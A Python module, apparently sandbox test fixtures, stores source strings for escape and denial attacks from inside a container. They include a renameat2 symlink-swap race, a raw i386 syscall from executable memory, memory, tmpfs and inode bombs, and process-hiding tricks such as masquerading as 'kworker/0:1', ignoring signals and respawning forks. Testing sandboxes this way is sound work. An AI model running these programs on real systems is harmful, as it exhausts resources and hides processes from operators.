"""Programs, as source texts, for attacks from inside a box: they flood it with memory or files, hide processes, swap a
folder for a link, or make a system call of i386."""

from __future__ import annotations

SWAP = """
import os, time, ctypes
libc = ctypes.CDLL(None)
os.symlink(os.path.expanduser("~/out"), "link")
end = time.time() + 1.5
while time.time() < end:
    if libc.renameat2(-100, b"in", -100, b"link", 2): raise OSError("the folder and the link cannot be swapped")
os.path.islink("in") and libc.renameat2(-100, b"in", -100, b"link", 2)
"""

# mov eax, 20 (getpid of i386); int 0x80; ret
INTERRUPT_80 = """
import ctypes, mmap
page = mmap.mmap(-1, 4096, prot=7)
page.write(bytes.fromhex("b814000000cd80c3"))
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
print("BREACH", ctypes.CFUNCTYPE(ctypes.c_int)(address)())
"""

MEMORY_BOMBS = {
    "shared": """
import mmap
maps = []
while True:
    maps.append(mmap.mmap(-1, 8 << 20))
    maps[-1].write(bytes(8 << 20))
""",
    "tmpfs": """
import os
os.mkdir("/tmp/bomb")
for number in range(1000):
    with open(f"/tmp/bomb/{number}", "wb") as file: file.write(bytes(8 << 20))
""",
}

FILL_INODES = """
import os
try:
    for folder in range(10000):
        os.makedirs(f"bomb/{folder}")
        for number in range(1000): open(f"bomb/{folder}/{number}", "w").close()
except OSError as error: print(error)
"""

HIDING = """
import ctypes, os, signal, sys, time
way, libc = sys.argv[1], ctypes.CDLL(None)
def linger():
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(number, signal.SIG_IGN)
    time.sleep(98)
def detached():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(3): os.close(number)
            return True
        os._exit(0)
    return False
if way == "daemon" and detached(): linger()
if way == "nameless" and detached():
    libc.prctl(15, b"kworker/0:1", 0, 0, 0)
    libc.clearenv()
    os.execve("/bin/sleep", ["init", "98"], {})
if way == "unreadable":
    import shutil
    shutil.copy("/bin/sleep", "/tmp/hidden")
    os.chmod("/tmp/hidden", 0o111)
    if detached(): os.execve("/tmp/hidden", ["hidden", "98"], {})
if way == "stopped":
    if detached(): os.kill(os.getpid(), signal.SIGSTOP); linger()
    os.kill(os.getpid(), signal.SIGSTOP)
if way == "subreaper":
    libc.prctl(36, 1, 0, 0, 0)
    if detached(): linger()
if way == "vfork":
    libc.syscall(56 if os.uname().machine == "x86_64" else 220, 0x4111, 0, 0, 0, 0)  # clone: VFORK, VM, SIGCHLD
    libc.pause()
if way == "leaderless" and detached():
    import threading
    threading.Thread(target=time.sleep, args=(98,)).start()
    libc.syscall(60 if os.uname().machine == "x86_64" else 93, 0)  # exit: of the first thread alone.
if way == "respawning" and detached():
    end = time.time() + 90
    while time.time() < end:
        if os.fork(): os._exit(0)
print("left", flush=True)
"""
